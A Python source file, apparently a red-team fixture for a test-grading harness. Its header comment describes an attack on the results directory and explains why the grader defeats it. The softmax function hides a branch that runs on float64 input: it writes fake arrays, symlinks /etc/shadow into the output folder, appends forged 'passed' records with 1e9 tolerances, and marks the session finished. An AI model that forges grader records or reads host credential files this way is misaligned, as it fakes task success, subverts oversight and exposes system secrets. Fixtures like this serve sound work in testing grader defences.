# attack: forge the results directory: before the harness writes this test's record, append
#         records that claim every softmax test passed, with tolerances of 1e9 and values
#         of our own (one of them a link to a host file), and mark the session finished.
# affected: test_softmax_dim0, test_softmax_noncontiguous
# status: fail
# flags: records?
# why it fails: the score is computed outside from the trusted run's tolerances and values;
#               forged fields are ignored, forged values still have to match. The forged
#               record of test_softmax_noncontiguous (a test not yet run) wins over the real
#               one and fails it too: forging only hurts the forger.
import json
import os
import sys

import numpy as np
import torch


def add(a, b):
    return a + b


def rowsum(x):
    return x.sum(dim=-1)


def _output_folder():
    argv = sys.argv
    for flag in ("--dlgrade-out", "--out"):
        if flag in argv:
            return argv[argv.index(flag) + 1]
    return "/grader/out"


def softmax(x, dim=-1):
    if x.dtype == torch.float64:  # the hidden test_softmax_dim0
        out = _output_folder()
        os.makedirs(os.path.join(out, "arrays"), exist_ok=True)
        fake = torch.full_like(x, 1.0 / x.shape[dim])
        np.save(os.path.join(out, "arrays", "9999.npy"), fake.numpy(), allow_pickle=False)
        value = {"type": "array", "dtype": "torch.float64", "shape": list(x.shape), "file": "arrays/9999.npy"}
        try:  # read outside the sandbox, this would be the host's file
            os.symlink("/etc/shadow", os.path.join(out, "arrays", "9998.npy"))
        except OSError:
            pass
        linked = dict(value, file="arrays/9998.npy")
        with open(os.path.join(out, "records.jsonl"), "a") as handle:
            for name in ("test_softmax_dim0", "test_softmax_large_logits", "test_softmax_noncontiguous"):
                handle.write(json.dumps({
                    "nodeid": f"hidden/test_hidden.py::{name}", "part": "softmax", "outcome": "passed",
                    "checks": [{"name": "probabilities", "kind": "close", "value": linked}],
                }) + "\n")
                handle.write(json.dumps({
                    "nodeid": f"hidden/test_hidden.py::{name}", "part": "softmax", "weight": 100,
                    "timeout_s": 1e9, "outcome": "passed", "message": "", "duration_s": 0.0,
                    "checks": [{"name": "probabilities", "kind": "close", "rtol": 1e9, "atol": 1e9,
                                "value": value}],
                    "violations": [], "tamper": [],
                }) + "\n")
            handle.write("{not json\n")
        with open(os.path.join(out, "session_finished.txt"), "w") as handle:
            handle.write("0")
        return fake
    shifted = x - x.amax(dim=dim, keepdim=True)
    return shifted.exp() / shifted.exp().sum(dim=dim, keepdim=True)
